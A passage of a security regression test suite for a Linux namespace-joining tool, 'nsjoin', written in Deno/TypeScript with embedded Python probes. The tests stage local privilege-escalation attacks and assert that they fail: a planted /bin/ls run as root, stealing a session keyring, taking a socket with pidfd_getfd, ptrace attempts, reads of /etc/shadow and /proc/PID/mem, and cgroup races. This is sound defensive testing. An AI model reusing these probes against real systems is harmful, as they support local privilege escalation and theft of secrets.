      flags: ["-m", "-p", "--fork", "--mount-proc"],
      setup: "mount -t tmpfs t /dev && mkdir /dev/pts && " +
        "mount -t devpts -o newinstance,ptmxmode=0666 devpts /dev/pts && ln -s pts/ptmx /dev/ptmx",
    });
    const run = (pid: number, program: string[]) =>
      runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", CLI, "exec", "-t", String(pid), ...program],
      });
    const refused =
      /^nsjoin exec: Cannot allocate a pseudo-terminal in the target: \/dev\/ptmx is not the pty multiplexer \(character device 5:2\)\n$/;
    await t.step("a FIFO is never opened", async () => {
      const out = await run(fifo.pid, ["true"]);
      // The reader would have been woken by the helper's open, before the helper exited.
      for (let i = 0; i < 50; i++) {
        assertThrows(() => Deno.statSync(`/proc/${fifo.pid}/root/dev/flag`), "opened");
        await new Promise((r) => setTimeout(r, 10));
      }
      assertEquals(out.code, 125);
      assertMatch(out.stderr, refused);
    });
    await t.step("a device node of other numbers is never opened", async () => {
      const out = await run(device.pid, ["true"]);
      assertEquals(out.code, 125);
      assertMatch(out.stderr, refused);
    });
    await t.step("the container's own devpts still gives the program its terminal", async () => {
      const out = await run(devpts.pid, ["tty"]);
      assertEquals([out.code, out.stdout.trim()], [0, "/dev/pts/0"], out.stderr);
    });
  },
});

// ---- stop 20: the target's cgroup, named or removed by whoever owns it

/**
 * A local user's process in a cgroup of their own, named `name`, below a subtree delegated
 * to them on cgroup v2 (as systemd's `user@UID.service` or a rootless engine's), in user
 * and uts namespaces of its own (`unshare -Uru`): what root's `exec` joins.
 */
async function userCgroup(
  name: string,
): Promise<{ pid: number; line: string; deleg: string } & AsyncDisposable> {
  const user = await testUser();
  const mount = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
    .map((l) => l.split(" ")).find((f) => f[3] === "/" && f.includes("cgroup2"))?.[4];
  assert(mount, "no cgroup2 mount");
  const deleg = `${mount}/nsjoin-sec20-${crypto.randomUUID().slice(0, 8)}`;
  await Deno.mkdir(deleg);
  for (const p of [deleg, `${deleg}/cgroup.procs`]) await Deno.chown(p, user.uid, user.gid);
  // The user makes the cgroup and moves their process there, then the namespaces.
  const child = new Deno.Command("setpriv", {
    args: [
      ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", "sh", "-c"],
      `read go; mkdir "${deleg}/${name}" && echo $$ > "${deleg}/${name}/cgroup.procs" && ` +
      "echo moved && exec unshare -Uru sleep 100000",
    ],
    stdin: "piped",
    stdout: "piped",
  }).spawn();
  // The user's process starts in their subtree (their login session, say).
  await Deno.writeTextFile(`${deleg}/cgroup.procs`, String(child.pid));
  const w = child.stdin.getWriter();
  await w.write(new TextEncoder().encode("go\n"));
  await w.close();
  const reader = child.stdout.getReader();
  assertEquals(text((await reader.read()).value!), "moved\n");
  reader.releaseLock();
  await waitFor("the user's namespaces", () => {
    try {
      return Deno.readLinkSync(`/proc/${child.pid}/ns/uts`) !==
        Deno.readLinkSync("/proc/self/ns/uts");
    } catch {
      return false;
    }
  });
  const line = (await Deno.readTextFile(`/proc/${child.pid}/cgroup`)).split("\n")
    .find((l) => l.startsWith("0::"))!;
  return {
    pid: child.pid,
    line,
    deleg,
    [Symbol.asyncDispose]: async () => {
      child.kill("SIGKILL");
      await child.status;
      await child.stdout.cancel().catch(() => {});
      // A cgroup is busy until its last process is gone for the kernel too: retry.
      for (const dir of [`${deleg}/${name}`, deleg]) {
        for (let i = 0; i < 50 && existsNow(dir); i++) {
          await Deno.remove(dir).catch(() => new Promise((r) => setTimeout(r, 20)));
        }
      }
    },
  };
}

Deno.test({
  name:
    "stop 20: exec and debug run the program in the target's cgroup even when its name ends in blanks",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // Whoever may make the target's cgroup names it (kernfs takes any byte but '/' and a
    // newline). /proc/PID/cgroup ends with cgroup v2's line — the only one on a v2 host, its
    // memory, pids and device rules — and a name ending in a blank lost it to a trim: the
    // directory was not found, the join left out, and root's program ran in root's cgroup.
    await using target = await userCgroup("box \t ");
    assert(target.line.endsWith("/box \t "), JSON.stringify(target.line));
    const ours = (await Deno.readTextFile("/proc/self/cgroup")).split("\n")
      .find((l) => l.startsWith("0::"));
    const run = async (args: string[]) => {
      const out = await runPiped(Deno.execPath(), { args: ["run", "-A", "--quiet", CLI, ...args] });
      assertEquals(out.code, 0, out.stderr);
      const line = out.stdout.split("\n").find((l) => l.startsWith("0::"));
      assert(line !== ours, `the program ran in our cgroup: ${JSON.stringify(line)}`);
      return line;
    };
    await t.step("exec", async () => {
      // Its user namespace too: a program that keeps ours is not in the user's keeping and
      // joins none of their cgroups (stop 27, conf27).
      const args = ["exec", "-n", "user,uts", String(target.pid), "cat", "/proc/self/cgroup"];
      assertEquals(await run(args), target.line);
    });
    await t.step("debug", async () => {
      // debug mounts /proc for the target's pid namespace, which it may only for one whose
      // user namespace is ours here (a rootless engine's own pid namespace aside): a root
      // process put in a cgroup of the same user's subtree.
      await using root = await makeTarget({ flags: ["-m", "-p", "-u", "--fork", "--mount-proc"] });
      const dir = `${target.deleg}/dbg `;
      await Deno.mkdir(dir);
      try {
        await Deno.writeTextFile(`${dir}/cgroup.procs`, String(root.pid));
        const line = await run(["debug", String(root.pid), "cat", "/proc/self/cgroup"]);
        assertEquals(line, `0::${dir.slice(dir.indexOf("/nsjoin-sec20-"))}`);
      } finally {
        await Deno.writeTextFile(`${target.deleg}/cgroup.procs`, String(root.pid));
        await Deno.remove(dir);
      }
    });
  },
});

Deno.test({
  name:
    "stop 20: exec never runs the program in our cgroup when the target's is removed before the join",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // The cgroup's owner moves the target to another cgroup of theirs and removes the one
    // root's exec read from /proc/PID/cgroup: exec took a cgroup it could not find for one
    // it need not join, and the program ran in root's (1 of 30 runs against a loop doing
    // it). strace holds exec's check of that cgroup for 3 s, the window made wide.
    await using target = await userCgroup("box");
    const ours = (await Deno.readTextFile("/proc/self/cgroup")).split("\n")
      .find((l) => l.startsWith("0::"));
    const box = `${target.deleg}/box`, other = `${target.deleg}/other`;
    await Deno.mkdir(other);
    const log = await Deno.makeTempFile({ prefix: "nsjoin-sec20-" });
    try {
      const exec = new Deno.Command("strace", {
        args: [
          ...["-f", "-qq", "-o", log, "-P", `${box}/cgroup.procs`],
          ...["-e", "trace=newfstatat,statx", "-e", "inject=newfstatat,statx:delay_enter=3000000"],
          ...[Deno.execPath(), "run", "-A", "--quiet", CLI],
          // With its user namespace: without it, no cgroup of the user's is joined (stop 27).
          ...["exec", "-n", "user,uts", String(target.pid), "cat", "/proc/self/cgroup"],
        ],
        stdin: "null",
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      const result = exec.output();
      let done = false;
      result.finally(() => done = true);
      // Until exec checks the cgroup (or finishes without checking it: nothing to widen).
      for (let i = 0; i < 200 && !done && !Deno.readTextFileSync(log); i++) {
        await new Promise((r) => setTimeout(r, 50));
      }
      await Deno.writeTextFile(`${other}/cgroup.procs`, String(target.pid));
      await Deno.remove(box);
      const out = await result;
      const line = text(out.stdout).split("\n").find((l) => l.startsWith("0::"));
      assert(line !== ours, `the program ran in our cgroup: ${JSON.stringify(line)}`);
      // Joined before the move, or refused: nothing run.
      if (out.code === 0) assertEquals(line, target.line);
      else assertMatch(text(out.stderr), /^nsjoin: Cannot open cgroup .*box: ENOENT/);
    } finally {
      await Deno.writeTextFile(`${target.deleg}/cgroup.procs`, String(target.pid));
      await Deno.remove(other);
      await Deno.remove(log);
    }
  },
});

// ---- stop 20: a stopped podman container's PID, taken by someone else

/**
 * A process of a local user, in user (with their subordinate ids: setgroups allowed) and
 * mount namespaces of their own, made to get PID `pid` (ns_last_pid, retried while other
 * processes of the machine take it first); undefined when that did not happen.
 */
async function userProcessAt(pid: number): Promise<Deno.ChildProcess | undefined> {
  const user = await testUser();
  for (let i = 0; i < 300; i++) {
    await Deno.writeTextFile("/proc/sys/kernel/ns_last_pid", String(pid - 1));
    const child = new Deno.Command("setpriv", {
      args: [
        ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
        ...["unshare", "--user", "--map-root-user", "--map-auto", "--mount", "sleep", "1000"],
      ],
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    if (child.pid === pid) return child;
    child.kill("SIGKILL");
    await child.status;
  }
  return undefined;
}

Deno.test({
  name:
    "stop 20: a stopped podman container whose PID a local user's process took is not running, not joined",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // podman leaves a stopped container's pidfile, and runc's state (its start time) goes:
    // the PID alone named the container, and a local user's process that got it (any
    // process may: PIDs wrap) in namespaces of its own was listed as the container and
    // joined by root's exec — with the container's configured environment (its secrets).
    const name = `nsjoin-sec20-${crypto.randomUUID().slice(0, 8)}`;
    const c = await startContainer("podman", name, ["-e", "SECRET=s3cr3t"]);
    let taker: Deno.ChildProcess | undefined;
    try {
      await must("podman", ["stop", "-t", "0", name]);
      taker = await userProcessAt(c.pid);
      assert(taker, `PID ${c.pid} was not taken; the scenario did not happen`);
      const out = await runPiped(Deno.execPath(), {
        args: [
          "run",
          "-A",
          "--quiet",
          CLI,
          "exec",
          `podman:${name}`,
          "sh",
          "-c",
          "echo ran $SECRET",
        ],
      });
      assert(!out.stdout.includes("ran"), `ran in the user's namespaces: ${out.stdout}`);
      assertEquals(out.code, 125, out.stderr);
      assertMatch(out.stderr, /Cannot find podman container .* no running podman container/);
      assert(!(await psJson()).some((r) => r.id === c.id), "listed as running");
    } finally {
      taker?.kill("SIGKILL");
      await taker?.status;
      await removeContainers([c]);
    }
  },
});

// ---- stop 20: what a container reads of the debug session's fresh /proc and /sys

Deno.test({
  name:
    "stop 20: debug's /proc and /sys hide from the container what its own hide (runc's masked paths)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // The session's proc and sysfs are fresh: no masks of the runtime's. The program has the
    // container's uid and capabilities, so the container's root reads them through
    // /proc/PID/root of the program: other host tasks' timers and names in timer_list, the
    // firmware's tables and memory map in /sys/firmware — which its own /proc and /sys hide.
    const c = await startContainer("docker", `nsjoin-sec20-${crypto.randomUUID().slice(0, 8)}`);
    const debug = new Deno.Command(Deno.execPath(), {
      args: ["run", "-A", "--quiet", CLI, "debug", c.name, "sleep", "31415"],
      stdin: "null",
      stdout: "null",
      stderr: "piped",
    }).spawn();
    try {
      // From inside: the program's PID there, then what its root shows (the uptime: the
      // path works; the container's own view of each masked path, for comparison).
      const peek = String.raw`
        for p in /proc/[0-9]*; do
          [ "$(tr '\0' ' ' < $p/cmdline 2>/dev/null)" = "sleep 31415 " ] || continue
          r=$p/root
          echo "uptime $(wc -c < $r/proc/uptime)"
          echo "timer_list $(wc -c < $r/proc/timer_list) own $(wc -c < /proc/timer_list)"
          echo "firmware $(ls $r/sys/firmware | wc -l) own $(ls /sys/firmware | wc -l)"
          echo "acpi $(ls $r/proc/acpi | wc -l) own $(ls /proc/acpi | wc -l)"
          exit 0
        done
        exit 1`;
      let out = await engineExec(c, [], ["sh", "-c", peek]);
      for (let i = 0; i < 100 && out.code !== 0; i++) {
        await new Promise((r) => setTimeout(r, 100));
        out = await engineExec(c, [], ["sh", "-c", peek]);
      }
      assertEquals(out.code, 0, `the debug program never showed up: ${out.stderr}`);
      const seen = Object.fromEntries(
        out.stdout.trim().split("\n").map((l) => [l.split(" ")[0], l.split(" ").slice(1)]),
      );
      assert(Number(seen.uptime[0]) > 0, out.stdout);
      assertEquals(seen.timer_list, ["0", "own", "0"], out.stdout);
      assertEquals(seen.firmware, ["0", "own", "0"], out.stdout);
      assertEquals(seen.acpi, ["0", "own", "0"], out.stdout);
    } finally {
      debug.kill("SIGTERM");
      await debug.status;
      await debug.stderr.cancel();
      await removeContainers([c]);
    }
  },
});

// ---- stop 20: the caller's session keyring

/**
 * `caller MODE PROGRAM...`: joins a session keyring holding a secret (as pam_keyinit gives
 * root's login) and runs PROGRAM (under a pty with MODE "pty"); `read`: prints the secret
 * this process can reach through its session keyring, or "none".
 */
const KEYRING_PY = String.raw`
import ctypes, os, sys, pty
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
KEYCTL, ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}[os.uname().machine]
if sys.argv[1] == "read":
    k = libc.syscall(KEYCTL, 10, -3, b"user", b"nsjoin-sec20", 0)  # KEYCTL_SEARCH in @s
    buf = ctypes.create_string_buffer(64)
    n = libc.syscall(KEYCTL, 11, k, buf, 64) if k >= 0 else -1  # KEYCTL_READ
    print("key:", buf.raw[:n].decode() if n > 0 else "none", flush=True)
else:
    assert libc.syscall(KEYCTL, 1, b"nsjoin-sec20-session", 0, 0, 0) > 0  # JOIN_SESSION
    assert libc.syscall(ADD_KEY, b"user", b"nsjoin-sec20", b"s3cr3t", 6, -3) > 0
    if sys.argv[1] == "pty":
        pty.spawn(sys.argv[2:])
    else:
        os.execvp(sys.argv[2], sys.argv[2:])
`;

Deno.test({
  name: "stop 20: exec's program never holds the caller's session keyring (runc's own keyring)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // Keyrings are not namespaced: a process possesses every key of its session keyring
    // whatever its uid. Root's `exec PID` of a local user's process ran the program with the
    // user's uid (the owner of its user namespace: they may ptrace it) or as code of theirs
    // (looked up in their mount namespace) — holding root's session keyring: it read root's
    // keys, and could link, revoke or replace them. runc joins a new one for every exec.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec20-" });
    await Deno.chmod(dir, 0o755);
    const py = `${dir}/keyring.py`;
    await Deno.writeTextFile(py, KEYRING_PY);
    await Deno.chmod(py, 0o644);
    const user = await testUser();
    await using target = await makeTarget({ flags: ["-U", "-r", "-m"], user });
    const run = async (mode: "exec" | "pty", args: string[]) => {
      const out = await runPiped("/usr/bin/python3", {
        args: [py, mode, Deno.execPath(), "run", "-A", "--quiet", CLI, ...args],
      });
      return out.stdout.replaceAll("\r", "");
    };
    const program = ["/usr/bin/python3", py, "read"];
    try {
      await t.step(
        "enter -a keeps nsenter's contract: the key is reachable (the attack)",
        async () => {
          assertMatch(
            await run("exec", ["enter", "-t", String(target.pid), "-a", ...program]),
            /key: s3cr3t/,
          );
        },
      );
      await t.step("exec", async () => {
        assertMatch(await run("exec", ["exec", String(target.pid), ...program]), /key: none/);
      });
      await t.step("exec -t", async () => {
        assertMatch(await run("pty", ["exec", "-t", String(target.pid), ...program]), /key: none/);
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 20: exec of a namespace FILE of a local user's namespaces

Deno.test({
  name:
    "stop 20: exec of a namespace file never runs a user's mount namespace's programs as root, nor hands the user the caller's environment",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    const user = await testUser();
    const mark = `sec20-planted-${crypto.randomUUID()}`;
    // A local user's own user and mount namespaces, with a program of theirs over /bin/ls.
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-m"],
      user: { uid: user.uid, gid: user.gid },
      setup: `mount -t tmpfs t /mnt && printf '#!/bin/sh\\necho ${mark} uid=$(id -u)\\n' > ` +
        "/mnt/ls && chmod 755 /mnt/ls && mount --bind /mnt/ls /bin/ls",
    });
    const secret = `sec20-token-${crypto.randomUUID()}`;
    const exec = (args: string[]) =>
      runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", ...args],
        env: { SECRET_TOKEN: secret },
      });
    await t.step("control: nsenter --mount=FILE runs the user's program as root", async () => {
      const out = await runPiped("nsenter", { args: [`--mount=/proc/${target.pid}/ns/mnt`, "ls"] });
      assertEquals(out.stdout.trim(), `${mark} uid=0`, out.stderr);
    });
    await t.step("exec /proc/PID/ns/mnt: refused, the user's program never runs", async () => {
      const out = await exec([`/proc/${target.pid}/ns/mnt`, "/bin/ls"]);
      assert(!out.stdout.includes(mark), "root ran the user's program");
      assertEquals(out.code, 2, out.stderr);
      assertMatch(
        out.stderr,
        /^nsjoin exec: Cannot join the mnt namespace \/proc\/\d+\/ns\/mnt without its user namespace/,
      );
    });
    await t.step("exec of a mount namespace file of ours still runs, as before", async () => {
      const out = await exec([`/proc/${Deno.pid}/ns/mnt`, "/bin/sh", "-c", "echo $SECRET_TOKEN"]);
      assertEquals([out.code, out.stdout.trim()], [0, secret], out.stderr);
    });
    await t.step("exec /proc/PID/ns/user: the user reads the program's environ", async () => {
      const nap = `${Math.floor(Math.random() * 1000) + 100}.125`;
      const start = await exec(["-d", `/proc/${target.pid}/ns/user`, "/bin/sleep", nap]);
      assertEquals(start.code, 0, start.stderr);
      const program = await processWithArgv(["/bin/sleep", nap]);
      try {
        const read = await runPiped("setpriv", {
          args: [
            ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
            ...["cat", `/proc/${program}/environ`],
          ],
        });
        assertEquals(read.code, 0, read.stderr);
        assert(read.stdout.includes("PATH="), "the user reads the program's environment");
        assert(!read.stdout.includes(secret), "the user read root's secret");
      } finally {
        Deno.kill(program, "SIGKILL");
      }
    });
    await t.step("exec of a net namespace file keeps the caller's environment", async () => {
      const out = await exec([`/proc/${target.pid}/ns/net`, "/bin/sh", "-c", "echo $SECRET_TOKEN"]);
      assertEquals([out.code, out.stdout.trim()], [0, secret], out.stderr);
    });
  },
});

// ---- stop 20: a FUSE file a process holds never keeps ls waiting

Deno.test({
  name:
    "stop 20: ls never waits for a FUSE daemon that does not answer (a file some process holds)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // fuse-overlayfs stands in for any FUSE daemon: a user's, where /etc/fuse.conf has
    // user_allow_other (without allow_other the kernel answers root EACCES at once), or a
    // stale one of root's. Stopped, it answers nothing: stat(2) of its file waits for ever.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-fuse-" });
    for (const d of ["lower", "upper", "work", "mnt"]) await Deno.mkdir(`${dir}/${d}`);
    await Deno.writeTextFile(`${dir}/lower/file`, "x");
    // In the foreground: its PID is the daemon's.
    const daemon = new Deno.Command("fuse-overlayfs", {
      args: [
        ...["-f", "-o", `lowerdir=${dir}/lower,upperdir=${dir}/upper,workdir=${dir}/work`],
        `${dir}/mnt`,
      ],
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    let holder: Deno.ChildProcess | undefined;
    try {
      await waitFor("the FUSE mount", () => {
        try {
          return Deno.readTextFileSync(`${dir}/mnt/file`) === "x";
        } catch {
          return false;
        }
      }, 10_000);
      holder = new Deno.Command("sh", {
        args: ["-c", `exec sleep 100020 < ${dir}/mnt/file`],
        stdin: "null",
      }).spawn();
      const pid = holder.pid;
      await waitFor("the holder", () => {
        try {
          return Deno.readLinkSync(`/proc/${pid}/fd/0`) === `${dir}/mnt/file`;
        } catch {
          return false;
        }
      }, 10_000);
      daemon.kill("SIGSTOP");
      // Stopped for this one listing only: every fd scan on this machine waits meanwhile.
      const out = await runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", "--no-lock", CLI, "ls", "-t", "net"],
        signal: AbortSignal.timeout(20_000),
      });
      daemon.kill("SIGCONT");
      assertEquals(out.code, 0, `ls did not finish: ${out.code} ${out.stderr}`);
      assertMatch(out.stdout, /^\s+NS TYPE/);
    } finally {
      daemon.kill("SIGCONT");
      holder?.kill("SIGKILL");
      await holder?.status;
      await runPiped("umount", { args: [`${dir}/mnt`] });
      await daemon.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 20: exec -n user,… never hands a socket on its stdio to the namespace's owner

/**
 * As the user who owns the target's user namespace: waits for the process whose argv is
 * argv[1:], takes its fd 1 with pidfd_getfd and prints what it is ("socket uid=U" with the
 * peer's uid, or "other"), or "none" when it never came.
 */
const SOCKET_TAKER_PY = `
import ctypes, os, socket, stat, struct, sys, time
want = ("\\0".join(sys.argv[1:]) + "\\0").encode()
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(2000):
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                if f.read() != want:
                    continue
            pidfd = os.pidfd_open(int(name))
        except (OSError, ValueError):
            continue
        fd = libc.syscall(438, pidfd, 1, 0)
        if fd < 0:
            print(f"getfd errno {ctypes.get_errno()}")
            sys.exit(0)
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            s = socket.socket(fileno=fd)
            uid = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[1]
            print(f"socket uid={uid}")
        else:
            print("other")
        sys.exit(0)
    time.sleep(0.005)
print("none")
`;

Deno.test({
  name:
    "stop 20: exec -n user,… with a socket on its stdio never hands the socket to the user namespace's owner",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const user = await testUser();
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-n"],
      user: { uid: user.uid, gid: user.gid },
    });
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sockstdio-" });
    await Deno.chmod(dir, 0o755);
    try {
      await Deno.writeTextFile(`${dir}/take.py`, SOCKET_TAKER_PY);
      await Deno.writeTextFile(`${dir}/wrap.py`, SOCKET_STDIO_PY);
      await Deno.writeTextFile(`${dir}/secret`, "unused");
      const nap = `1.${Math.floor(Math.random() * 900000) + 100000}`;
      const taker = new Deno.Command("setpriv", {
        args: [
          ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
          ...["/usr/bin/python3", `${dir}/take.py`, "/bin/sleep", nap],
        ],
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      // Root's stdout is a socket (a service's journal stream, socat's EXEC socketpair).
      const run = await new Deno.Command("python3", {
        args: [`${dir}/wrap.py`, `${dir}/secret`, Deno.execPath(), "run", "-A", "--quiet"]
          .concat([CLI, "exec", "-n", "user,net", String(target.pid), "/bin/sleep", nap]),
        stdout: "null",
        stderr: "piped",
      }).output();
      const took = await taker.output();
      assertEquals(run.code, 0, text(run.stderr));
      const seen = text(took.stdout).trim();
      assertEquals(seen, "other", `the user took: ${seen} ${text(took.stderr)}`);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 20: a thread of Deno in a local user's namespaces gives the user nothing

/**
 * As the user, in their namespaces: a unix socket server at argv[1]; for the one client, a
 * pidfd of it (SO_PEERPIDFD), then every way into that process. Prints a JSON object
 * naming each way that worked.
 */
const PEER_PROBE_PY = `
import ctypes, json, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
s.listen(1)
print("ready", flush=True)
c, _ = s.accept()
pid = struct.unpack("3i", c.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
pidfd = struct.unpack("i", c.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
got = {"pidfd": pidfd >= 0}
got["getfd"] = [n for n in range(64) if libc.syscall(438, pidfd, n, 0) >= 0]
got["attach"] = libc.ptrace(16, pid, 0, 0) == 0
got["seize"] = libc.ptrace(0x4206, pid, 0, 0) == 0
got["signal"] = libc.syscall(424, pidfd, 0, 0, 0) == 0
for f in ("mem", "environ", "maps", "fd/0", "root/etc/shadow"):
    try:
        with open(f"/proc/{pid}/{f}", "rb") as h:
            h.read(1)
        got[f] = True
    except OSError:
        got[f] = False
print(json.dumps(got), flush=True)
c.send(b"x")
c.close()
`;

Deno.test({
  name:
    "stop 20: a local user's server reached from an inNamespaces thread in their namespaces gets nothing of root's Deno",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // The thread that joined the user's mount and network namespaces is dumpable; what keeps
    // the user out is that its credentials stay root's in the host's user namespace
    // (ptrace_may_access: another uid needs CAP_SYS_PTRACE over that namespace).
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-peerprobe-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(`${dir}/probe.py`, PEER_PROBE_PY);
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-m", "-n"],
      user: { uid: user.uid, gid: user.gid },
      setup: "mount -t tmpfs t /mnt",
    });
    // The user joins their own namespaces (as root inside them: their uid on the host).
    const probe = new Deno.Command("setpriv", {
      args: [
        ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
        ...["nsenter", "-t", String(target.pid), "-U", "-m", "-n", "--preserve-credentials"],
        ...["/usr/bin/python3", `${dir}/probe.py`, "/mnt/probe.sock"],
      ],
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    try {
      const reader = probe.stdout.getReader();
      assertEquals(text((await reader.read()).value!).trim(), "ready");
      reader.releaseLock();
      await inNamespaces(target.pid, async (path: string) => {
        const c = await Deno.connect({ transport: "unix", path });
        await c.read(new Uint8Array(1));
        c.close();
        return 0;
      }, { namespaces: ["mnt", "net"], arg: "/mnt/probe.sock" });
      const out = await probe.output();
      const got = JSON.parse(text(out.stdout).trim().split("\n").pop()!);
      // The attack was live: the user had a pidfd of root's Deno.
      assert(got.pidfd, text(out.stderr));
      assertEquals(got, {
        pidfd: true,
        getfd: [],
        attach: false,
        seize: false,
        signal: false,
        mem: false,
        environ: false,
        maps: false,
        "fd/0": false,
        "root/etc/shadow": false,
      });
    } finally {
      try {
        probe.kill("SIGKILL");
      } catch {
        // Ended.
      }
      closeNamespaceWorkers();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 20: Deno's system CA store is never read in a target's mount namespace

Deno.test({
  name:
    "stop 20: with DENO_TLS_CA_STORE=system, an inNamespaces fetch in a user's mount namespace never trusts their CA",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // Deno reads the system store (/etc/ssl/certs/ca-certificates.crt) once, in the thread
    // that first needs it, and keeps it for the whole process: read in a user's mount
    // namespace, their CA would sign for any host name in every later fetch of ours.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-ca-" });
    await Deno.chmod(dir, 0o755);
    const ssl = (args: string[]) => runPipedOk("openssl", args);
    try {
      assert(
        await ssl(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", `${dir}/ca.key`]
          .concat(["-out", `${dir}/ca.pem`, "-days", "1", "-subj", "/CN=user-ca"])),
        "ca",
      );
      assert(
        await ssl(["req", "-newkey", "rsa:2048", "-nodes", "-keyout", `${dir}/srv.key`]
          .concat(["-out", `${dir}/srv.csr`, "-subj", "/CN=127.0.0.1"])),
        "csr",
      );
      await Deno.writeTextFile(`${dir}/ext`, "subjectAltName=IP:127.0.0.1\n");
      assert(
        await ssl(
          ["x509", "-req", "-in", `${dir}/srv.csr`, "-CA", `${dir}/ca.pem`]
            .concat(["-CAkey", `${dir}/ca.key`, "-CAcreateserial", "-out", `${dir}/srv.pem`])
            .concat(["-days", "1", "-extfile", `${dir}/ext`]),
        ),
        "cert",
      );
      await Deno.chmod(`${dir}/ca.pem`, 0o644);
      // The user's mount namespace, with their CA as the system's bundle.
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-m"],
        user: { uid: user.uid, gid: user.gid },
        setup: `mount --bind ${dir}/ca.pem /etc/ssl/certs/ca-certificates.crt`,
      });
      // A server whose certificate only the user's CA signed (where they would sit on
      // root's path, or answer its DNS).
      const server = Deno.serve({
        hostname: "127.0.0.1",
        port: 0,
        cert: await Deno.readTextFile(`${dir}/srv.pem`),
        key: await Deno.readTextFile(`${dir}/srv.key`),
        onListen() {},
      }, () => new Response("user-signed"));
      try {
        const url = `https://127.0.0.1:${server.addr.port}/`;
        await Deno.writeTextFile(
          `${dir}/victim.ts`,
          `import { closeNamespaceWorkers, inNamespaces } from "${ROOT}mod.ts";
const get = async (url: string) => {
  try {
    return await (await fetch(url)).text();
  } catch {
    return "refused";
  }
};
const inside = await inNamespaces(${target.pid}, get, { namespaces: ["mnt"], arg: "${url}" });
closeNamespaceWorkers();
console.log(JSON.stringify({ inside, host: await get("${url}") }));
`,
        );
        const victim = (env: Record<string, string>) =>
          runPiped(Deno.execPath(), {
            args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`],
            env: { DENO_TLS_CA_STORE: "system", ...env },
          });
        await t.step("control: a Deno given that bundle trusts the server", async () => {
          const out = await victim({ SSL_CERT_FILE: `${dir}/ca.pem` });
          assertEquals(JSON.parse(out.stdout), { inside: "user-signed", host: "user-signed" });
        });
        await t.step("the inNamespaces fetch goes first: neither trusts it", async () => {
          const out = await victim({});
          assertEquals(JSON.parse(out.stdout), { inside: "refused", host: "refused" }, out.stderr);
        });
      } finally {
        await server.shutdown();
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 20: the pidfs pin, told from the pidfd itself
Deno.test({
  name: "a target's pidfs inode is recorded where the kernel has pidfs (Linux 6.9+), as " +
    "stat(1) of its pidfd gives it; NSJOIN_NO_PIDFS=1 leaves the start time alone",
  async fn() {
    // The kernel rule, as the plan once read it: pidfs (an inode per process) from 6.9.
    const [major, minor] = Deno.readTextFileSync("/proc/sys/kernel/osrelease").split(".")
      .map((n) => parseInt(n, 10));
    const pidfs = major > 6 || (major === 6 && minor >= 9);
    const child = new Deno.Command("sleep", { args: ["1000"] }).spawn();
    try {
      using pin = pinProcess(child.pid);
      // The inode of the pidfd's file (stat -L follows /proc's link to the open file), the
      // one the helper compares with the pidfd it opens itself.
      const stat = await runPiped("stat", {
        args: ["-L", "-c", "%i", `/proc/${Deno.pid}/fd/${pin.pidfd}`],
      });
      assertEquals(stat.code, 0, stat.stderr);
